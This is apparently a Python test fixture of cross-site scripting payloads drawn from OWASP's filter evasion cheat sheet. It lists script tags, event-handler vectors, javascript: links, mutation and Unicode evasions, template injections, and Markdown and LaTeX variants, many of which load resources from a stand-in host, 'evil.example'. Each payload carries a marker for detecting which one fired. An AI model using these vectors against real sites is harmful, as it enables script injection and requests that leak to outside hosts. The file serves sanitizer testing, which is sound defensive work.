"""Words that would act in a browser if anything let them: run a script, or ask another server.

After OWASP's filter evasion cheat sheet and html5sec.org. `{mark}` says, in an alert or an address,
which of them acted and where it had been put.
"""

ELSEWHERE = "http://evil.example"
"""No such host: whatever asks for it has left the page's origin."""

PAYLOADS = (
    "<script>alert('{mark}')</script>",
    "<ScRiPt>alert('{mark}')</sCrIpT>",
    f"<script src={ELSEWHERE}/{{mark}}.js></script>",
    "<scr<script>ipt>alert('{mark}')</scr</script>ipt>",
    "<img src=x onerror=alert('{mark}')>",
    "<img src='x' onerror='alert(\"{mark}\")' x=\"",
    '"><img src=x onerror=alert(`{mark}`)>',
    "'><img src=x onerror=alert(`{mark}`)>",
    "<img/src='x'/onerror=alert('{mark}')>",
    '<IMG """><img src=x onerror=alert(\'{mark}\')>">',
    f"<img src={ELSEWHERE}/{{mark}}.png>",
    f"<img srcset='{ELSEWHERE}/{{mark}}.png 1x'>",
    f"<picture><source srcset={ELSEWHERE}/{{mark}}><img></picture>",
    "<svg onload=alert('{mark}')></svg>",
    "<svg><script>alert('{mark}')</script></svg>",
    f"<svg><image href={ELSEWHERE}/{{mark}}.svg /></svg>",
    "<svg><animate onbegin=alert('{mark}') attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert('{mark}')></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{mark}')></style></table>",
    "<math href=\"javascript:alert('{mark}')\">click</math>",
    "<iframe src=\"javascript:alert('{mark}')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('{mark}')</script>\"></iframe>",
    f"<iframe src={ELSEWHERE}/{{mark}}></iframe>",
    f"<object data={ELSEWHERE}/{{mark}}></object>",
    f"<embed src={ELSEWHERE}/{{mark}}>",
    f"<video src={ELSEWHERE}/{{mark}} onerror=alert('{{mark}}')></video>",
    f"<audio src={ELSEWHERE}/{{mark}} onerror=alert('{{mark}}')>",
    f"<video poster={ELSEWHERE}/{{mark}}></video>",
    f"<link rel=stylesheet href={ELSEWHERE}/{{mark}}.css>",
    f"<style>@import '{ELSEWHERE}/{{mark}}.css';</style>",
    f"<style>* {{{{ background: url({ELSEWHERE}/{{mark}}) }}}}</style>",
    f"<div style=\"background: url('{ELSEWHERE}/{{mark}}')\">x</div>",
    f"<table background={ELSEWHERE}/{{mark}}><tr><td>x</table>",
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/{{mark}}">',
    f"<base href={ELSEWHERE}/{{mark}}/>",
    f"<form action={ELSEWHERE}/{{mark}}><input name=q autofocus onfocus=alert('{{mark}}')></form>",
    f"<button formaction={ELSEWHERE}/{{mark}}>Go</button>",
    "<input autofocus onfocus=alert('{mark}')>",
    "<details open ontoggle=alert('{mark}')>x</details>",
    "<body onload=alert('{mark}')>",
    "<marquee onstart=alert('{mark}')>x</marquee>",
    "<xss autofocus tabindex=1 onfocus=alert('{mark}')></xss>",
    "<a href=\"javascript:alert('{mark}')\">click</a>",
    "<a href=\"jav&#x09;ascript:alert('{mark}')\">click</a>",
    "<a href=\"data:text/html,<script>alert('{mark}')</script>\">click</a>",
    f"<a href={ELSEWHERE}/{{mark}} ping={ELSEWHERE}/{{mark}}>click</a>",
    "[click](javascript:alert('{mark}'))",
    f"![x]({ELSEWHERE}/{{mark}}.png)",
    f"![x][1]\n\n[1]: {ELSEWHERE}/{{mark}}.png",
    f"[click]({ELSEWHERE}/{{mark}})",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{mark}')>\">",
    "<template><img src=x onerror=alert('{mark}')></template>",
    "</mark></p></article></textarea></title></style><img src=x onerror=alert('{mark}')>",
    "<!--><img src=x onerror=alert('{mark}')>-->",
    "&lt;img src=x onerror=alert('{mark}')&gt;",
    "\\u003cimg src=x onerror=alert('{mark}')\\u003e",
    "\uff1cimg src=x onerror=alert('{mark}')\uff1e",
    "\u202e<img src=x onerror=alert('{mark}')>\u202c",
    "<im\u200bg src=x onerror=alert('{mark}')>",
    "<img src=x onerror\u2028=alert('{mark}')>",
    "{{{{constructor.constructor(\"alert('{mark}')\")()}}}}",
    "${{alert('{mark}')}} <%= alert('{mark}') %> #{{alert('{mark}')}}",
    "$$\\href{{javascript:alert('{mark}')}}{{x}}$$ $\\includegraphics{{" + ELSEWHERE + "/{mark}}}$",
    '```html\n<img src=x onerror=alert("{mark}")>\n```\n<img src=x onerror=alert("{mark}")>',
    '```mermaid\ngraph TD; A-->B; click A "javascript:alert({mark})"\n```',
)


def payload(number: int, sink: str) -> str:
    """One of `PAYLOADS`, signed with its number and the sink that it is put into."""
    return PAYLOADS[number].format(mark=mark(number, sink))


def mark(number: int, sink: str) -> str:
    """What a payload signs with: only letters and digits, to be found again anywhere."""
    return f"zq{number}{sink}"
